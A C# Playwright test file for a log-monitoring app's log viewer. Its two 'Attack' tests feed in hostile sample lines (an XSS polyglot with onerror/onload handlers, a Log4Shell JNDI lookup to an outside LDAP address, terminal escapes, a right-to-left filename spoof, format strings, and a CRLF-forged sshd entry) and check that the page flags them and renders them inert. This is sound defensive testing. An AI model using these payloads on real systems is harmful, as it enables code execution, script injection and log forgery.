using System.Text.RegularExpressions;
using Microsoft.Playwright;
using Monitor.Domain.Access;
using Monitor.Domain.Logs;
using Monitor.Domain.Metrics;
using Monitor.Tests.Browser;
using Monitor.Tests.Intake;
using Monitor.Tests.Logs.Desk;
using Monitor.Tests.Support;

namespace Monitor.Tests.Logs.Screens;

[Collection(Suite.Name)]
public sealed class LogScreenTests(TestApplication application, Chromium browser)
{
    private const string Polyglot = "order \"'><img src=x onerror=alert(1)></script><script>alert(3)</script>{{7*7}} ${jndi:ldap://203.0.113.1/a} \u001b[31mred\u001b[0m \u202etxt.exe";

    [NeedsFact(Chromium.Program)]
    public async Task Attack_19_A_hostile_line_stands_as_text_with_its_marks_a_search_finds_it_and_its_page_shows_what_is_around()
    {
        using var stage = await LogStage.CreateAsync(application);
        await stage.WriteAsync("/var/log/app.log", LogSeverity.Error, "the line before", Polyglot, "the line after");
        await using var screen = await Screen.OpenAsync(browser, application, await application.CreateUserAsync(Roles.Viewer));
        var page = screen.Page;

        await screen.GoAsync($"/logs?host={stage.HostId}");
        await Assertions.Expect(page.Locator("[data-line]")).ToHaveCountAsync(3);
        await Assertions.Expect(page.Locator(".bars a .bad")).Not.ToHaveCountAsync(0);
        var file = await page.RunAndWaitForDownloadAsync(() => page.GetByRole(AriaRole.Button, new() { Name = "CSV" }).ClickAsync());
        Assert.Equal(4, (await File.ReadAllLinesAsync(await file.PathAsync())).Length);
        await page.GetByLabel("Words of the line").FillAsync("onerror");
        await page.GetByRole(AriaRole.Button, new() { Name = "Search", Exact = true }).ClickAsync();
        await Assertions.Expect(page).ToHaveURLAsync(new Regex("q=onerror"));
        var line = page.Locator("[data-line]");
        await Assertions.Expect(line).ToHaveCountAsync(1);
        await Assertions.Expect(line).ToContainTextAsync("<img src=x onerror=alert(1)>");
        await Assertions.Expect(line.Locator("mark")).ToHaveTextAsync("onerror");
        foreach (var mark in new[] { "Markup", "Lookup", "Terminal escape", "Turned direction" })
        {
            await Assertions.Expect(line.Locator(".status", new() { HasText = mark })).ToBeVisibleAsync();
        }

        await line.Locator("a.when").ClickAsync();
        await Assertions.Expect(page.Locator("h1")).ToHaveTextAsync($"Log line of {stage.HostName}");
        await Assertions.Expect(page.Locator("[data-line]")).ToHaveCountAsync(3);
        await Assertions.Expect(page.Locator("[data-line]").First).ToContainTextAsync("the line before");
        await Assertions.Expect(page.Locator("[data-line][aria-current]")).ToContainTextAsync("onerror");
        Assert.Equal(0, await page.Locator("img[src=x], main script").CountAsync());
        await page.Locator("[data-line] a.when").First.ClickAsync();
        await Assertions.Expect(page.Locator("[data-line][aria-current]")).ToContainTextAsync("the line before");
        await Assertions.Expect(page.GetByLabel("The line", new() { Exact = true })).ToContainTextAsync("the line before");
        await page.GetByRole(AriaRole.Link, new() { Name = "Charts at that moment" }).ClickAsync();
        await Assertions.Expect(page).ToHaveURLAsync(new Regex($"/hosts/{stage.HostId}\\?from=\\d+&to=\\d+"));
        await page.GetByRole(AriaRole.Link, new() { Name = "Logs at this time" }).ClickAsync();
        await Assertions.Expect(page.Locator("[data-line]")).ToHaveCountAsync(3);
        Assert.Empty(screen.Complaints);
    }

    [NeedsFact(Chromium.Program)]
    public async Task Attack_42_Each_kind_of_hostile_line_stands_in_one_row_of_its_own_and_says_what_was_found()
    {
        (string Raw, string Mark)[] hostile =
        [
            ("one\r\nNov 27 10:00:00 web sshd[1]: Accepted password for root", "Line break"), ("two \u001b[2J\u001b[1;31mroot", "Terminal escape"), ("three \0 end", "Control characters"),
            ("four \u202egpj.exe", "Turned direction"), ("five %n%n%n%s%s%s%s%s", "Format string"), ("six ${jndi:ldap://203.0.113.1/a}", "Lookup"), ("seven <svg onload=alert(1)>", "Markup"),
        ];
        using var stage = await LogStage.CreateAsync(application);
        await stage.WriteAsync("/var/log/app.log", LogSeverity.Info, [.. hostile.Select(h => h.Raw), "eight, a plain one"]);
        await using var screen = await Screen.OpenAsync(browser, application, await application.CreateUserAsync(Roles.Viewer));
        await screen.GoAsync($"/logs?host={stage.HostId}&marks=hostile");
        var rows = screen.Page.Locator("[data-line]");
        await Assertions.Expect(rows).ToHaveCountAsync(hostile.Length);
        foreach (var (raw, mark) in hostile)
        {
            await Assertions.Expect(rows.Filter(new() { HasText = raw.Split(' ', '\r')[0] }).Locator(".status", new() { HasText = mark })).ToBeVisibleAsync();
        }

        Assert.DoesNotContain(await rows.AllInnerTextsAsync(), t => t.AsSpan().ContainsAny("\0\u001b\u202e"));
        Assert.Equal(0, await screen.Page.Locator("svg[onload]").CountAsync());
        Assert.Empty(screen.Complaints);
    }

    [NeedsFact(Chromium.Program)]
    public async Task A_new_line_appears_while_one_follows_and_waits_while_it_is_paused()
    {
        using var stage = await LogStage.CreateAsync(application);
        await stage.WriteAsync("/var/log/app.log", LogSeverity.Info, "it was there");
        await using var screen = await Screen.OpenAsync(browser, application, await application.CreateUserAsync(Roles.Viewer));
        var page = screen.Page;
        await screen.GoAsync($"/logs?host={stage.HostId}&q=it&live=on");
        await Assertions.Expect(page.Locator("[data-line]")).ToHaveCountAsync(1);

        await stage.WriteAsync("/var/log/app.log", LogSeverity.Info, "nobody asked for this", "it came");
        await Assertions.Expect(page.Locator("[data-line]")).ToHaveCountAsync(2);
        await Assertions.Expect(page.Locator("[data-line]").First).ToContainTextAsync("it came");
        await page.GetByRole(AriaRole.Button, new() { Name = "Pause" }).ClickAsync();
        await Assertions.Expect(page.GetByRole(AriaRole.Button, new() { Name = "Go on" })).ToBeVisibleAsync();
        await stage.WriteAsync("/var/log/app.log", LogSeverity.Info, "it waits");
        await Assertions.Expect(page.GetByText("Paused, 1 new line waits")).ToBeVisibleAsync();
        await Assertions.Expect(page.Locator("[data-line]")).ToHaveCountAsync(2);
        await page.GetByRole(AriaRole.Button, new() { Name = "Go on" }).ClickAsync();
        await Assertions.Expect(page.Locator("[data-line]").First).ToContainTextAsync("it waits");
        Assert.Empty(screen.Complaints);
    }

    [NeedsFact(Chromium.Program)]
    public async Task A_lead_blocks_a_source_with_a_reason_and_lets_it_in_again()
    {
        using var stage = await LogStage.CreateAsync(application);
        await stage.WriteAsync("/var/log/noisy.log", LogSeverity.Info, "noise");
        await using var screen = await Screen.OpenAsync(browser, application, await application.CreateUserAsync(Roles.Lead));
        var page = screen.Page;
        await screen.GoAsync($"/logs/sources?host={stage.HostId}");
        var row = page.Locator("[data-source]");
        await row.GetByRole(AriaRole.Button, new() { Name = "Block…" }).ClickAsync();
        await row.GetByLabel("Why it is blocked").FillAsync("too loud");
        await row.GetByRole(AriaRole.Button, new() { Name = "Block", Exact = true }).ClickAsync();
        await Assertions.Expect(row.Locator(".blocked")).ToContainTextAsync("too loud");
        await row.GetByRole(AriaRole.Button, new() { Name = "Unblock" }).ClickAsync();
        await Assertions.Expect(row.Locator(".blocked")).ToHaveCountAsync(0);
        Assert.Empty(screen.Complaints);
    }

    [NeedsFact(Chromium.Program)]
    public async Task What_happened_stands_on_the_charts_of_a_host_until_it_is_turned_off_and_its_page_shows_the_last_lines()
    {
        using var host = await BusyHost.CreateAsync(application);
        await host.ReportAsync(10, 20, 30, 1000, 2000);
        await using (var db = await TestAgent.OpenAsync(application))
        {
            db.Events.Add(new HostEvent { HostId = host.Id, At = TimeProvider.System.GetUtcNow().AddMinutes(-5), Kind = "deploy", Text = "Shop <b>4.17</b>" });
            await db.SaveChangesAsync();
        }

        await using var screen = await Screen.OpenAsync(browser, application, await application.CreateUserAsync(Roles.Viewer));
        var page = screen.Page;
        await screen.GoAsync($"/hosts/{host.Id}?range=15m");
        var flag = page.Locator(".chart-canvas .events a[title*='Deploy: Shop <b>4.17</b>']");
        await Assertions.Expect(flag.First).ToBeVisibleAsync();
        await Assertions.Expect(page.GetByText("Last lines of its logs")).ToBeVisibleAsync();
        await page.GetByRole(AriaRole.Button, new() { Name = "Events", Exact = true }).ClickAsync();
        await Assertions.Expect(flag).ToHaveCountAsync(0);
        await Assertions.Expect(page).ToHaveURLAsync(new Regex("events=off"));
        Assert.Empty(screen.Complaints);
    }
}
